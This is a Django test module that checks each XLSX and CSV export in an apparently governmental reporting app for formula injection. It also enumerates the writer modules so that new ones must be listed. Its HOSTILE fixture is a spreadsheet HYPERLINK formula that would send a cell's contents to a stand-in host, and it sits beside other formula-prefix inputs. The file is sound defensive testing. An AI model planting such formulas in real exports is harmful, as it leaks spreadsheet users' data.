"""Every XLSX / CSV writer neutralises formulas with the one core function `safe_cell` (decision 0911).

A note `=HYPERLINK(…)` imported through the workflow template came back from the template download as a live
formula. The writers are enumerated from the source (a module that builds a Workbook or a csv.writer, or calls
write_xlsx): a new writer fails `test_every_writer_is_listed` until it is listed here with a check.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from pathlib import Path
from unittest import mock

from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import SimpleTestCase, TestCase
from openpyxl import load_workbook

from mtqg.core.tables import FORMULA_PREFIXES, Column, Table, write_xlsx
from mtqg.geo.models import UnitVersion
from mtqg.ntm import groups as ntm_groups
from mtqg.ntm.excel import template_xlsx
from mtqg.ntm.models import CriteriaSet
from mtqg.ntm.tests.factories import load_all
from mtqg.portal.datasets import DATASETS
from mtqg.poverty.importing import reader as importer
from mtqg.poverty.models import ImportBatch
from mtqg.testing import make_world
from mtqg.workflow import services
from mtqg.workflow.calendar import load_calendars
from mtqg.workflow.models import ReportingPeriod, ReportType

HOSTILE = '=HYPERLINK("http://x.invalid/?"&A1,"bấm")'
ROOT = Path(__file__).resolve().parents[1]
WRITER = re.compile(r"\bWorkbook\(|csv\.writer\(|\bwrite_xlsx\(")

# module → how its output is checked below ("write_xlsx": it only writes through core.tables.write_xlsx)
WRITERS = {
    "core/tables.py": "test_write_xlsx_escapes_titles_headers_rows_and_notes",
    "dashboards/views.py": "write_xlsx",
    "ntm/views.py": "write_xlsx",
    "ocop/views.py": "write_xlsx",
    "planning/views.py": "write_xlsx",
    "reports/writers.py": "write_xlsx",
    "supervision/views.py": "write_xlsx",
    "workflow/views.py": "write_xlsx",
    "workflow/excel.py": "test_workflow_note_round_trip_stays_text",
    "ntm/excel.py": "test_ntm_template_escapes_names",
    "ntm/groups.py": "test_ntm_groups_template_escapes_names",
    "ntm/set_excel.py": "ntm/tests/test_authoring.py SetExcelTest.test_export_escapes_formulas",
    "poverty/importing/reader.py": "test_poverty_templates_and_error_csv_escape",
    "poverty/views.py": "reliability_tests/test_hostile_files.py PersonalExportNeutralisesFormulasTest",
    "portal/views.py": "test_portal_csv_escapes",
}


def assert_no_formula_xlsx(test: SimpleTestCase, content: bytes, label: str) -> int:
    """Every cell of every sheet: no formula, no text that Excel would read as one. Returns the cells seen."""
    wb = load_workbook(io.BytesIO(content))
    seen = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                seen += 1
                test.assertNotEqual(cell.data_type, "f", f"{label}: formula in {ws.title}!{cell.coordinate}")
                if isinstance(cell.value, str):
                    test.assertFalse(cell.value.startswith(FORMULA_PREFIXES), f"{label}: {cell.value!r}")
    return seen


def assert_no_formula_csv(test: SimpleTestCase, text: str, label: str) -> None:
    for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))):
        for value in row:
            test.assertFalse(value.startswith(FORMULA_PREFIXES), f"{label}: {value!r}")


class WritersEnumeratedTest(SimpleTestCase):
    def test_every_writer_is_listed(self) -> None:
        found = set()
        for path in ROOT.rglob("*.py"):
            rel = path.relative_to(ROOT).as_posix()
            if (
                "/tests/" in rel
                or rel.startswith(("reliability_tests/", "browser_tests/"))
                or "/migrations/" in rel
            ):
                continue
            if rel == "core/xlsx_guard.py":
                continue
            if WRITER.search(path.read_text(encoding="utf-8")):
                found.add(rel)
        self.assertEqual(
            found, set(WRITERS), "a new XLSX/CSV writer: check it escapes with safe_cell, list it"
        )

    def test_write_xlsx_escapes_titles_headers_rows_and_notes(self) -> None:
        table = Table(
            title=HOSTILE,
            columns=[Column("a", HOSTILE), Column("b", "Số", "int")],
            rows=[{"a": HOSTILE, "b": 1}, {"a": "+1", "b": -2}, {"a": "@SUM(A1)", "b": 0}],
            notes=[HOSTILE],
        )
        self.assertGreater(assert_no_formula_xlsx(self, write_xlsx([table]), "write_xlsx"), 8)


class WritersEscapeTest(TestCase):
    @classmethod
    def setUpTestData(cls) -> None:
        cls.w = make_world()

    def test_workflow_note_round_trip_stays_text(self) -> None:
        load_calendars([2026])
        report = services.report_create(
            actor=None,
            report_type=ReportType.objects.get(code="gnbv_6thang_nam"),
            unit=self.w.muong_phang,
            period=ReportingPeriod.objects.get(code="2026-H1"),
        )
        self.client.force_login(self.w.commune_officer)
        url = f"/workflow/reports/{report.pk}/template.xlsx"
        wb = load_workbook(io.BytesIO(self.client.get(url).content))
        ws = wb["So lieu"]
        ws["C4"] = 1000
        ws["D4"].value = HOSTILE
        ws["D4"].data_type = "s"  # a text cell, as a hostile tool writes it (openpyxl reads it back as text)
        out = io.BytesIO()
        wb.save(out)
        upload = SimpleUploadedFile("mau.xlsx", out.getvalue())
        self.client.post(f"/workflow/reports/{report.pk}/import/", {"file": upload}, follow=True)
        self.assertEqual(report.values.get(code=ws["A4"].value).note, HOSTILE)  # kept as typed
        again = self.client.get(url).content
        assert_no_formula_xlsx(self, again, "workflow template")
        # and it survives a second round trip unchanged
        self.client.post(
            f"/workflow/reports/{report.pk}/import/",
            {"file": SimpleUploadedFile("m.xlsx", again)},
            follow=True,
        )
        self.assertEqual(report.values.get(code=ws["A4"].value).note, HOSTILE)

    def test_ntm_template_escapes_names(self) -> None:
        load_all()
        province = self.w.dien_bien_old
        UnitVersion.objects.filter(path__startswith=province.path, level=3).update(name=HOSTILE)
        cset = CriteriaSet.objects.order_by("pk").first()
        assert cset is not None
        cset.name = HOSTILE
        cset.save(update_fields=["name"])
        content = template_xlsx(province=province, year=2024, cset=cset)
        assert_no_formula_xlsx(self, content, "ntm template")

    def test_ntm_groups_template_escapes_names(self) -> None:
        province = self.w.dien_bien
        UnitVersion.objects.filter(path__startswith=province.path, level=3).update(name=HOSTILE)
        content = ntm_groups.template_xlsx(province, date(2026, 3, 1))
        self.assertGreater(assert_no_formula_xlsx(self, content, "ntm groups template"), 20)

    def test_poverty_templates_and_error_csv_escape(self) -> None:
        with (
            mock.patch.object(importer, "standard_for"),
            mock.patch.object(importer, "template_headers", return_value=[HOSTILE, "-x"]),
        ):
            assert_no_formula_xlsx(self, importer.template_xlsx(2024), "poverty template xlsx")
            assert_no_formula_csv(self, importer.template_csv(2024).decode(), "poverty template csv")
        batch = ImportBatch(
            errors=[{"sheet": "Hộ", "line": 2, "field": HOSTILE, "message": "@SUM(1)"}],
            unit=self.w.muong_phang,
        )
        assert_no_formula_csv(self, importer.errors_csv(batch).decode(), "poverty errors csv")

    def test_portal_csv_escapes(self) -> None:
        slug, ds = next(iter(DATASETS.items()))
        names = [f.name for f in ds.fields]
        with mock.patch.object(ds, "rows", lambda year: [dict.fromkeys(names, HOSTILE)]):
            response = self.client.get(f"/cong-khai/du-lieu/{slug}.csv?year=2024")
        self.assertEqual(response.status_code, 200, response.content[:200])
        assert_no_formula_csv(self, response.content.decode(), "portal csv")
